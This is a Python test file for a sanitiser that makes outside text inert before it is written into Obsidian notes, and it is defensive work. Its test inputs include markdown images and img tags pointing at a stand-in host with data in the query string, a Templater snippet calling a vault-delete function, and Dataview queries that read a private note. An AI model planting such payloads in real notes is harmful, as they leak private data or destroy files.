"""Text from outside as Ora writes it into a note: nothing in it runs (Templater, query blocks,
inline queries), is fetched or embedded when the note is shown (images, embeds, HTML tags) or is
read as a tag, it reads the same, and making it so takes time in proportion to its length."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from sidecar.vault.inert import inert, inert_mark
from sidecar.vault.note import parse_note, reading_text

MARK = inert_mark()
# The cases the plugin's tests read too (plugin/tests/ask/outside-text.test.ts): one table, so the
# plugin's `inert` and this one cannot drift.
CASES = json.loads((Path(__file__).parent / "data" / "inert_cases.json").read_text(
    encoding="utf-8"))["cases"]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["name"])
def test_each_case_shared_with_the_plugin_gives_its_output(case: dict[str, str]) -> None:
    assert inert(case["text"]) == case["inert"]


def test_a_templater_command_a_query_block_and_an_inline_query_run_no_more() -> None:
    text = ("Bake it. <%* app.vault.delete() %>\n```dataviewjs\ndv.pages()\n```\n"
            "> ```Dataview\n> LIST\n> ```\nCount: `$= dv.pages().length`.")
    out = inert(text)
    assert "<%" not in out and "`$=" not in out
    assert "```text dataviewjs\n" in out and "> ```text Dataview\n" in out
    assert out.replace(MARK, "").replace("text ", "") == text


def test_an_image_an_embed_and_an_html_tag_outside_code_are_not_drawn() -> None:
    # Before: `![](https://…?d=…)` and `<img src=…>` were written as they came, and Obsidian
    # fetched them when the note was shown: an address can carry what a model read. An embed
    # `![[Private/Diary]]` was kept too, and showed a private note inside a public one.
    text = ("See ![chart](https://evil.example/x.png?d=zafiro) and ![[Private/Diary]].\n"
            '<img src="https://evil.example/?d=zafiro"> <!-- c --> </p> <br/>')
    assert inert(text) == (
        f"See !{MARK}[chart](https://evil.example/x.png?d=zafiro) and !{MARK}[[Private/Diary]].\n"
        f'<{MARK}img src="https://evil.example/?d=zafiro"> <{MARK}!-- c --> <{MARK}/p> '
        f"<{MARK}br/>")


@pytest.mark.parametrize("text", [
    "a < b and 3<4, <https://example.org/a> and [note](<My note.md>)",
    "Use `<img src=x>` or ``![a](b)`` here.",
    "```html\n<img src=a.png>\n![x](https://a.example/b.png)\n```",
    "~~~~\n```\n<i>\n~~~~",
    "Rye ferments faster than wheat; 5 % of it is bran.",
])
def test_code_autolinks_link_destinations_and_plain_text_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_it_is_idempotent() -> None:
    once = inert("<% x %> ![a](https://b) <img src=c> ```dataviewjs")
    assert inert(once) == once


def test_unclosed_backtick_runs_are_read_in_linear_time() -> None:
    # Before: a code-span pattern backtracked over every run: 45 KB of unclosed runs of
    # different lengths took seconds (81 KB: 40 s), and held up `POST /v1/web/save` meanwhile.
    text = " a ".join("`" * n for n in range(2, 300))
    started = time.monotonic()
    assert inert(text) == text
    assert time.monotonic() - started < 1.0
    long = ("`" * 100_000 + " x ") * 2 + "`" + " " * 100_000 + "$= dv.pages()"
    started = time.monotonic()
    inert(long)
    assert time.monotonic() - started < 1.0


@pytest.mark.parametrize("lead", [
    "\u00a0", "\n", "\u3000", "\ufeff", "\u2003", "\v", "\f", "\u2028", "\u202f", " \t ",
], ids=repr)
def test_an_inline_query_after_any_space_javascript_trims_runs_no_more(lead: str) -> None:
    # Before: only spaces and tabs were skipped, but Dataview trims the span's text with
    # JavaScript's trim() (a no-break space, U+3000, a BOM, a line break…) and then looks for
    # the prefix: `` `\u00a0$= dv.page("Private/Diary")…` `` still ran.
    for query in ("$= dv.pages().length", "= this.file.name"):
        out = inert(f"`{lead}{query}`")
        assert out == f"`{lead}{MARK}{query}`"


def test_a_lone_carriage_return_ends_a_line_for_fences_too() -> None:
    # Before: `^` read only `\n` as a line end, but Obsidian (and Ora's own reader) end a line
    # at a lone `\r` too: a ```dataviewjs block with classic Mac line ends stayed live.
    out = inert("Intro\r```dataviewjs\rdv.paragraph(1)\r```\r\nEnd")
    assert out == "Intro\n```text dataviewjs\ndv.paragraph(1)\n```\nEnd"
    assert "```dataviewjs" not in reading_text(out)


@pytest.mark.parametrize("text", [
    "`a\n\n![i](https://evil.example/?d=x)\n\n`",  # a span never crosses a blank line
    "<https://a.example/`> ![i](https://evil.example/?d=x) `x`",  # an autolink comes first
    "\\`![i](https://evil.example/?d=x)`",  # an escaped backtick opens no span
    "```a`b\n![i](https://evil.example/?d=x)\n```",  # a backtick in the info: no fence
])
def test_what_obsidian_reads_as_prose_is_never_taken_for_code(text: str) -> None:
    # Before: each of these was taken for code, and its image was left to be fetched.
    assert f"!{MARK}[i]" in inert(text)


@pytest.mark.parametrize("tag", ["private", "Archived", "incubating", "private/health",
                                 "recipe"])
def test_a_tag_in_outside_text_is_no_tag_of_the_note(tag: str) -> None:
    # Before: a saved page or a model's answer mentioning `#private` made its note private
    # (gone from ordinary search), `#archived` archived it.
    text = f"Tags people use: #{tag}, _#{tag}_ and (#{tag}).\n#{tag}\n>#{tag} quoted"
    out = inert(text)
    note = parse_note(f"---\ntype: web\ntags: []\n---\n{out}\n", "Web/Page.md")
    assert note.tags == () and not note.is_private and not note.is_archived
    assert not note.is_incubating
    assert out.replace(MARK, "") == text  # it reads the same


def test_a_status_tag_is_broken_in_code_too_other_tags_only_in_prose() -> None:
    # Ora reads `#private` even in code (privacy fails safe): there it is broken as well.
    text = ("Run `git tag #private` or:\n```sh\n#include <x> #private\n```\nSee #todo and "
            "https://example.org/#private.")
    out = inert(text)
    assert "#private" not in out and "#include" in out and f"#{MARK}todo" in out
    assert not parse_note(out, "Chats/c.md").is_private


@pytest.mark.parametrize("text", [
    "See https://example.org/page#section and [[Garden#Beds]] or [x](#part).",
    "# A heading\n## Another\nC# and F#, issue #, issue #42 and #2024/12",
])
def test_links_headings_and_a_lone_hash_are_not_tags_and_stay(text: str) -> None:
    assert inert(text) == text
